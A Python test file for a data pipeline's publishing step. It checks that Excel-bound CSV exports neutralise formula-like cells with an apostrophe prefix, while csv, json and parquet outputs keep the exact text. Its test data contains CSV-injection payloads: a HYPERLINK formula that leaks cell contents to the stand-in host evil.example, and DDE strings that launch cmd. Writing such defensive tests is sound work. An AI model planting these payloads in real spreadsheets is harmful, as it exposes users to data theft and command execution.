"""CSV injection: excel/ never hands a spreadsheet a formula; csv/, json/ and parquet/ keep the exact text."""
from __future__ import annotations

import csv
import io
import json

import pyarrow as pa
import pyarrow.parquet as pq

from pipeline.publish.files import excel_csv_text, write_table_files
from pipeline.schema import table_specs

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"市财政局")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["市纪委", "a=b", "市财政（地税）局", " =1+1", "＝1+1"]


def _units(labels: list[str]) -> pa.Table:
    rows = [{"unit_id": f"u{i}", "jurisdiction": "taizhou", "name": label, "full_name": label, "name_en": "x", "category": "collective"}
            for i, label in enumerate(labels)]
    return table_specs()["units"].to_arrow(rows)


def _excel_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_hostile_cells_are_guarded_in_excel_only(tmp_path):
    labels = HOSTILE + HARMLESS
    paths = write_table_files(tmp_path, "units", _units(labels))
    excel_text = paths["excel"].read_bytes().decode("utf-8-sig")
    excel = _excel_rows(excel_text)
    column = excel[0].index("name")
    names = [row[column] for row in excel[1:]]
    assert names == ["'" + label for label in HOSTILE] + HARMLESS
    # The guarded cell is quoted too, as OWASP asks: the raw line holds the quoted, prefixed text.
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""市财政局"")"' in excel_text
    assert ",\"'-2+3\"," in excel_text and ",\"'@SUM(1+1)*cmd|' /C calc'!A0\"," in excel_text
    assert ",a=b," in excel_text  # an ordinary cell stays unquoted
    csv_names = [row["name"] for row in csv.DictReader(io.StringIO(paths["csv"].read_bytes().decode("utf-8"),
                                                                      newline=""))]
    assert csv_names == labels
    assert [row["name"] for row in json.loads(paths["json"].read_text(encoding="utf-8"))] == labels
    assert pq.read_table(paths["parquet"]).column("name").to_pylist() == labels


def test_hostile_header_fields_are_guarded_and_numbers_are_not():
    table = pa.table({"=cmd|' /C calc'!A0": ["x"], "-n": pa.array([-5], pa.int64()), "plain": ["@a"]})
    header, row = _excel_rows(excel_csv_text(table))
    assert header == ["'=cmd|' /C calc'!A0", "'-n", "plain"]
    assert row == ["x", "-5", "'@a"]  # a number is data, never a formula
    assert excel_csv_text(table).endswith("\r\n") and "\n" not in excel_csv_text(table).replace("\r\n", "")
